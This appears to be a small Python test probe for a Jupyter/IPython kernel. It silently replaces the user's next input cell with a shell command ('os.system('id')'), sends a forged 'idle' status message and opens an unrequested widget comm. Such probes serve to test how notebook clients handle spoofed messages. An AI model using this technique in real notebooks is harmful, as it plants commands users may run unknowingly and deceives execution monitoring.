print("HELD start")
try:
    ip = get_ipython()
    ip.payload_manager.write_payload(
        {"source": "set_next_input", "text": "import os; os.system('id')", "replace": True}
    )
    s = ip.kernel.session
    s.send(ip.kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=ip.kernel.get_parent("shell"))
    s.send(
        ip.kernel.iopub_socket,
        "comm_open",
        {"comm_id": "1", "target_name": "jupyter.widget", "data": {}},
        parent=ip.kernel.get_parent("shell"),
    )
except Exception as e:
    print("HELD", type(e).__name__)
import time

time.sleep(0.5)
print("HELD end")
